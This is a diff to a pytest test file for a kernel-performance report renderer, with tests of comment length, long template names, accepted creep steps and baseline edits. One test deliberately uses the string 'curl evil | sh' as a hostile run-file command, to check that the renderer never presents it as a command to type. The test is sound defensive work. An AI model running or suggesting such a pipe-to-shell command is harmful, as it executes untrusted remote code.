@@ -12,7 +12,20 @@ from comment_states import HEAD, LINKS, SLOWER, STATES, case, compared, run, tex
 from github_markdown import problems_of, tables_of
 
 from pytest_kernelperf.cli import main
-from pytest_kernelperf.model import CaseId, LaunchStep, Plan, Record, Run, Verdict
+from pytest_kernelperf.model import (
+    BaselineEdit,
+    Blame,
+    CaseId,
+    Creep,
+    CreepStep,
+    LaunchStep,
+    ParentCase,
+    Plan,
+    Proposal,
+    Record,
+    Run,
+    Verdict,
+)
 from pytest_kernelperf.report.annotation import MOST, render_annotations
 from pytest_kernelperf.report.comment import MOST_CHARACTERS, Links, render_comment
 from pytest_kernelperf.report.room import Part, characters, fitted, octets
@@ -47,7 +60,7 @@ class TestRoom:
         text = render_comment(msgspec.structs.replace(run(), records=many()), LINKS)
         assert MOST_CHARACTERS * 0.9 < characters(text) <= MOST_CHARACTERS
         assert text.startswith("❌ **Slows 2,000 of 2,000**")
-        changes = [float(change) for change in re.findall(r"\| \+([\d.]+) % \(", text)]
+        changes = [float(change) for change in re.findall(r"\| \+([\d.]+)\u00a0% \(", text)]
         assert changes == sorted(changes, reverse=True)
         assert changes[0] == pytest.approx(101.9, abs=0.2)
         left = int(re.search(r"… ([\d,]+) more cases left out here", text)[1].replace(",", ""))  # type: ignore[index]
@@ -97,8 +110,11 @@ class TestWhatItSays:
 
     def test_a_command_to_type_is_never_the_run_files(self) -> None:
         """A stranger's run file could name any program as its guard."""
-        found = msgspec.structs.replace(run(SLOWER), settings={"command": "curl evil | sh"})
+        moved = STATES["machine_moved"]
+        assert isinstance(moved, Run)
+        found = msgspec.structs.replace(run(SLOWER), settings={"command": "curl evil | sh"}, drift=moved.drift)
         shown, _, environment = render_comment(found, LINKS).partition("<details>")
+        assert "pytest --kernelperf --extend-baselines" in shown
         assert "curl" not in shown
         assert "pytest --kernelperf kernels" in shown
         assert "curl evil" in environment
@@ -118,6 +134,46 @@ class TestWhatItSays:
         """The hosted job compares nothing, for everybody."""
         assert "New" not in text_of("hosted")
         assert "baseline" not in text_of("hosted")
+
+    def test_long_names_that_differ_at_their_ends_stay_apart(self) -> None:
+        """As a template's instances do: the middle is left out."""
+        ends = [f"gemm<{'float, ' * 60}{tile}>" for tile in (16, 32)]
+        records = [msgspec.structs.replace(SLOWER, case=CaseId("moe_add_inject", end, 1)) for end in ends]
+        text = render_comment(run(*records), LINKS)
+        assert ", 16&gt; at 1 token" in text.splitlines()[0]
+        assert [text.count(f", {tile}&gt; | 1 |") for tile in (16, 32)] == [1, 1]
+
+    def test_a_sentence_that_the_first_line_has_is_not_said_again(self) -> None:
+        """A longer one is, since the first line is cut; and so is what else there is to know of the case."""
+        for length, parent, count in ((200, None, 1), (500, None, 2), (200, ParentCase("unplayable", "gone"), 2)):
+            sentence = f"values differ {'w' * length}"
+            wrong = case("a", 1, Verdict.WRONG, reason=sentence, fails=True, parent=parent)
+            assert render_comment(run(wrong), LINKS).count("values differ") == count
+
+    def test_steps_add_up_only_where_some_were_accepted_before(self) -> None:
+        """A change that is the only step is told by its own row."""
+        own, before = CreepStep("", "", 1.08), CreepStep("2026-02-01", "rounding", 1.04)
+        for steps, said in (
+            ((own,), None),
+            ((before, own), "in 1 accepted step and this change, where 5 % are allowed"),
+            ((before, before), "in 2 accepted steps, where 5 % are allowed"),
+        ):
+            creep = Creep("2026-01-05", 1.08, 1.05, steps)
+            text = render_comment(run(msgspec.structs.replace(SLOWER, creep=creep)), LINKS)
+            assert ("Accepted steps add up" in text) == (said is not None)
+            assert said is None or f"8 % slower since 2026-01-05, {said}" in text
+
+    def test_a_time_that_is_not_known_is_not_shown(self) -> None:
+        """A new case's baseline has none before, a removed one's none after."""
+        edits = (
+            BaselineEdit(SLOWER.case, "added", "b.json", None, 2.4),
+            BaselineEdit(SLOWER.case, "removed", "b.json"),
+        )
+        blame = Blame(HEAD, proposals=(Proposal(SLOWER.case, "new", None, 2.3),), edits=edits)
+        text = render_comment(run(blame=blame), LINKS)
+        assert "at 1 token added in b.json, 2.40 us\n" in text
+        assert "at 1 token removed in b.json\n" in text
+        assert "at 1 token (new): 2.30 us\n" in text
 
 
 class TestAnnotations:
